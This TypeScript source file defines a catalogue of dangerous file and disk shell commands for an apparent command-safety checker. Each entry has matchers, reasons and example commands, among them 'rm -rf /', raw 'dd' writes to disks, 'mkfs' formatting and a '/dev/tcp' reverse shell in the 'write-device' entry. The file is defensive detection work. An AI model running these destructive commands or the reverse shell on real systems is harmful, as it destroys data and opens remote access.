// Danger catalogue, files and disks: deletes, disk tools, device writes, overwrites; then (danger-files-control.ts)
// start-up files, permission changes and history.
import type { DangerEntry } from './danger-entry.ts';
import { atBase } from '../shell/view.ts';
import { hasFlag, operands, XARGS_WITH_ARG } from './flags.ts';
import {
  deletesDataFiles,
  deletesSourceByGlob,
  deletesSubstitutedList,
  findDeletes,
  irreplaceableDeletes,
  listingDeletes,
  rmDeletes,
} from './delete-targets.ts';
import {
  destroysVolume,
  DISK_TOOLS,
  emptiedFiles,
  FORCE_RM,
  overwritesInput,
  READS_THEN_PRINTS,
  onlyListsDisks,
  RECURSIVE_RM,
  writesSystem,
} from './danger-files-match.ts';
import { FILE_CONTROL_DANGERS } from './danger-files-control.ts';
import { dataFileName, freshFileName, sourceFileName } from './overwritten-files.ts';
import { isDangerousDevice, isKernelControl, isRootOrHome, isSystemPath } from './sensitive-targets.ts';

export const FILE_DANGERS: DangerEntry[] = [
  {
    id: 'rm-recursive-force',
    risk: 'high',
    reason: 'recursive forced delete (rm -rf): files are gone without a prompt',
    programs: ['rm', 'unlink', 'rimraf'],
    examples: [
      'rm -rf ~/projects',
      'rm -r -f ./*',
      'rm --recursive --force dist',
      'sudo rm -fr /srv',
      'npx rimraf ~/work',
    ],
    match: (v) =>
      ((v.program === 'rm' || v.program === 'unlink') && RECURSIVE_RM(v.args) && FORCE_RM(v.args)) ||
      v.program === 'rimraf',
    deletes: rmDeletes, // build output inside the project goes without asking (disposable-output.ts)
  },
  {
    id: 'rm-recursive',
    risk: 'high',
    reason: 'recursive delete (rm -r) of a directory tree',
    programs: ['rm', 'rmdir'],
    examples: ['rm -r ~', 'rm -R build', 'rmdir --ignore-fail-on-non-empty -p a/b'],
    match: (v) =>
      (v.program === 'rm' && RECURSIVE_RM(v.args) && !FORCE_RM(v.args)) ||
      (v.program === 'rmdir' && hasFlag(v.args, 'p', ['--parents'])),
    deletes: (v) => (v.program === 'rm' ? rmDeletes(v) : undefined),
  },
  {
    id: 'rm-source-glob',
    risk: 'high',
    reason:
      'deletes source files by a glob (rm src/*.ts, rm *.go): every file the pattern matches goes, work not yet committed with them',
    programs: ['rm'],
    examples: [
      'rm src/*.ts',
      'rm -f lib/*.py',
      'rm *.go',
      'rm -- src/components/*.tsx',
      'rm -f src/*',
      'rm app/models/*.rb *.[ch]',
    ],
    match: deletesSourceByGlob,
  },
  {
    id: 'rm-data-files',
    risk: 'high',
    reason:
      'deletes data files (tables, exports, databases, fixtures: rm data/*.csv, rm *.sqlite3): nothing in the project makes them again',
    programs: ['rm', 'unlink'],
    examples: [
      'rm -f data/*.csv',
      'unlink data/users.csv',
      'rm *.sqlite3',
      'rm -f db/*.db',
      'rm exports/customers.xlsx',
      'rm -f fixtures/*',
      'rm *.parquet',
      'rm -- datasets/train.jsonl',
    ],
    // (`rm *.log`, `rm -f dist/*.json`, `rm /tmp/*.csv`, `rm tmp/out.csv`, `rm test.db`, `rm package-lock.json` stay quiet.)
    match: deletesDataFiles,
  },
  {
    id: 'rm-irreplaceable',
    risk: 'medium',
    reason:
      'deletes a file nothing in the project makes again (an environment file, a private key, credentials, a database)',
    programs: ['rm', 'unlink'],
    examples: [
      'rm -f .env.production',
      'rm .env',
      'rm config/master.key',
      'unlink certs/server.key',
      'rm -f credentials.json',
      'rm db.sqlite3',
    ],
    // Source files go by name without asking (`rm src/old.ts` is an edit; git keeps them): these are not in git.
    match: (v) => irreplaceableDeletes(v).length > 0,
  },
  {
    id: 'rm-root-or-home',
    risk: 'high',
    reason: 'deletes /, a home directory or a system directory',
    programs: ['rm', 'unlink'],
    examples: ['rm -f /', 'rm -rf /', 'rm -r --no-preserve-root /', 'rm -f /etc/passwd', 'unlink /etc/passwd'],
    // A relative operand is below the directory the script moved to (`cd /etc && rm -f passwd`).
    match: (v) =>
      (v.program === 'rm' || v.program === 'unlink') &&
      operands(v.args).some((p) => {
        const at = atBase(p, v.base);
        return isRootOrHome(at, v.home) || isSystemPath(at);
      }),
  },
  {
    id: 'find-delete',
    risk: 'high',
    reason: 'find deletes every file it matches (-delete or -exec rm)',
    programs: ['find'],
    examples: [
      'find ~ -mindepth 1 -delete',
      'find . -name "*.log" -delete',
      'find . -exec rm {} +',
      'find / -execdir shred -u {} ;',
    ],
    match: (v) =>
      v.program === 'find' &&
      v.args.some(
        (a, i) =>
          a === '-delete' ||
          (/^-(exec|execdir|ok|okdir)$/.test(a) &&
            /^(.*\/)?(rm|shred|unlink|rmdir|srm|wipe)$/.test(v.args[i + 1] ?? '')),
      ),
    deletes: findDeletes,
  },
  {
    id: 'disk-format',
    risk: 'high',
    reason: 'formats, partitions or wipes a disk, a volume or a storage pool',
    examples: [
      'mkfs.ext4 /dev/sdb1',
      'wipefs -a /dev/nvme0n1',
      'fdisk /dev/sda',
      'parted /dev/sda rm 1',
      'cryptsetup luksFormat /dev/sdb',
      'nvme format /dev/nvme0n1',
      'lvremove -f vg/lv',
      'zfs destroy -r tank',
      'btrfs subvolume delete /mnt/s',
      'mdadm --zero-superblock /dev/sdb',
      'diskutil eraseDisk JHFS+ X disk2',
    ],
    match: (v) => (DISK_TOOLS.test(v.program) && !onlyListsDisks(v)) || destroysVolume(v),
  },
  {
    id: 'shred',
    risk: 'high',
    reason: 'shred overwrites files so they cannot be recovered',
    programs: ['shred', 'srm', 'wipe'],
    examples: ['shred -u notes.txt', 'shred /dev/sda'],
    match: (v) => v.program === 'shred' || v.program === 'srm' || v.program === 'wipe',
  },
  {
    id: 'dd-to-device',
    risk: 'high',
    reason: 'dd writes raw bytes onto a device',
    programs: ['dd'],
    examples: ['dd if=/dev/zero of=/dev/sda bs=1M', 'dd if=img.iso of=/dev/disk2'],
    match: (v) => v.program === 'dd' && v.args.some((a) => a.startsWith('of=') && isDangerousDevice(a.slice(3))),
  },
  {
    id: 'write-device',
    risk: 'high',
    reason: 'writes onto a device file (disk, raw socket or terminal of another process)',
    examples: [
      'cat /dev/urandom >/dev/sda',
      'cp /dev/zero /dev/sdb',
      'echo x | tee /dev/nvme0n1',
      'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1',
    ],
    written: (p) => isDangerousDevice(p),
    writtenExcept: ['dd'], // dd-to-device
  },
  {
    id: 'kernel-control',
    risk: 'high',
    reason: 'writes a kernel control file (/proc/sysrq-trigger crashes or reboots at once)',
    examples: ['echo c >/proc/sysrq-trigger', 'echo 1 | tee /proc/sys/kernel/panic'],
    written: (p) => isKernelControl(p),
  },
  {
    id: 'write-system-path',
    risk: 'high',
    reason: 'writes, moves or truncates files in a system directory',
    hostOnly: true,
    examples: [
      'tar -xf evil.tar -C /',
      'echo x > /etc/hosts',
      'mv /etc ~/.Trash/',
      'mv -t /etc ~/Documents/a',
      'find . -fprint /etc/passwd',
      'truncate -s 0 /var/lib/mysql/ibdata1',
    ],
    written: writesSystem,
  },
  {
    id: 'rsync-delete',
    risk: 'high',
    reason: 'rsync --delete removes every file of the destination that the source lacks',
    programs: ['rsync'],
    examples: ['rsync -a --delete ./empty/ ~/', 'rsync -av --delete src/ /var/www/', 'rsync -a --delete-before a/ b/'],
    // (`-n` / `--dry-run` only lists what would go.)
    match: (v) =>
      v.args.some((a) => /^--(delete(-\w+)?|del|remove-source-files)$/.test(a)) &&
      !v.args.some((a) => a === '--dry-run' || /^-[a-zA-Z]*n[a-zA-Z]*$/.test(a)),
  },
  {
    id: 'move-to-dev-null',
    risk: 'high',
    reason: 'moves a file onto /dev/null: the file is gone (and, run as root, /dev/null is replaced by it)',
    programs: ['mv'],
    examples: ['mv notes.txt /dev/null', 'mv -f data.db /dev/null', 'mv -t /dev/null x'],
    match: (v) =>
      v.program === 'mv' &&
      (operands(v.args, ['-t', '--target-directory', '-S', '--suffix']).at(-1) === '/dev/null' ||
        v.args.some((a, i) => (a === '-t' || a === '--target-directory') && v.args[i + 1] === '/dev/null') ||
        v.args.includes('--target-directory=/dev/null')),
  },
  {
    id: 'dd-overwrite',
    risk: 'medium',
    reason: 'dd writes over a file (it truncates it first unless conv=notrunc): what the file held is gone',
    programs: ['dd'],
    examples: ['dd if=/dev/zero of=data.db bs=1k count=1', 'dd if=/dev/urandom of=~/notes.txt'],
    // A file that does not exist yet is only made (the service tells where it can: `overwrites`); where it cannot,
    // the name tells: `of=fixtures/blank.img` is made, `of=README.md` is there (overwritten-files.ts).
    match: (v) => v.args.some((a) => a.startsWith('of=') && !/^of=\/dev\//.test(a)),
    overwrites: (v) =>
      v.words.some((w) => w.dynamic)
        ? undefined
        : v.args.filter((a) => a.startsWith('of=')).map((a) => atBase(a.slice(3), v.base)),
    presumedNew: freshFileName,
  },
  {
    id: 'file-empty',
    risk: 'medium',
    reason:
      "empties a file (truncate -s 0, `: > file`, `echo '' > file`, cp /dev/null, sed -i '1,$d'): what it held is gone",
    programs: ['truncate', ':', 'true', 'cat', 'cp', 'echo', 'printf', 'sed', 'tee', ''],
    examples: [
      'truncate -s 0 data/users.csv',
      'truncate --size=0 db.sqlite3',
      ': > data/export.json',
      'cat /dev/null > dump.sql',
      'cp /dev/null data/users.csv',
      'true > .env',
      'true > src/main.rs',
      ': > lib/util.ts',
      'echo "" > src/app.py',
      "printf '\\n' > lib/a.rb",
      "sed -i '1,$d' src/main.go",
      'sed -i d config/settings.yml',
      'true | tee src/index.ts',
    ],
    // A log (`truncate -s 0 app.log`) is output a program writes: emptying it loses nothing kept. Build output is
    // disposable (`deletes`), a file the service finds missing is only made (`overwrites`); where it cannot see, a data
    // file or a source file (`> src/main.rs`) is taken to be there and anything else to be new (`presumedNew`), except
    // what truncate and `sed -i` empty (they are there).
    match: (v) => emptiedFiles(v).length > 0,
    deletes: (v) => emptiedFiles(v),
    overwrites: (v) => emptiedFiles(v),
    presumedNew: (p, v) => v.program !== 'truncate' && v.program !== 'sed' && !dataFileName(p) && !sourceFileName(p),
  },
  {
    id: 'redirect-over-input',
    risk: 'medium',
    reason:
      'writes its output over the file it reads (sort f > f, jq . package.json > package.json): the shell empties the file before the program reads it',
    programs: READS_THEN_PRINTS,
    examples: [
      'sort data/users.csv > data/users.csv',
      'jq \'.version = "2.0.0"\' package.json > package.json',
      'grep -v DEBUG src/app.py > src/app.py',
      'cat < notes.md > notes.md',
    ],
    // (`> package.json.tmp && mv …`, `sort -o f f` and `sponge` write after reading: they keep what was there.)
    match: (v) => overwritesInput(v).length > 0,
  },
  {
    id: 'xargs-delete',
    risk: 'high',
    reason: 'deletes every file a list names (… | xargs rm): which files go is only known when it runs',
    programs: ['xargs', 'rm', 'unlink', 'shred'],
    examples: [
      'git ls-files | xargs rm -f',
      'find . -type f | xargs rm',
      'ls src | xargs rm',
      'git diff --name-only | xargs -I{} rm {}',
      'xargs rm < files.txt',
      'xargs -a list.txt unlink',
      "rm $(find src -name '*.ts')",
      "rm -f $(git ls-files '*.py')",
      'rm $(cat files.txt)',
    ],
    // Known items (`echo a.txt | xargs rm`) are judged as the rm they make; a find narrowed to one disposable name
    // (`find . -name '*.pyc' | xargs rm -f`) is cleanup, as `find … -delete` is (`deletes`).
    // (Also `rm $(find …)`, `rm $(git ls-files …)`: the same list, substituted.)
    match: (v) =>
      (v.program === 'xargs' &&
        v.stdin?.text === undefined &&
        /^(.*\/)?(rm|unlink|shred|srm|wipe)$/.test(operands(v.args, XARGS_WITH_ARG)[0] ?? '')) ||
      deletesSubstitutedList(v),
    deletes: listingDeletes,
  },
  {
    id: 'move-home-or-root',
    risk: 'high',
    reason: 'moves a home directory or / away',
    programs: ['mv'],
    examples: ['mv /Users/merlin /tmp/x', 'mv ~ /tmp/old-home'],
    match: (v) => v.program === 'mv' && operands(v.args).some((p) => isRootOrHome(p, v.home)),
  },
  ...FILE_CONTROL_DANGERS,
];
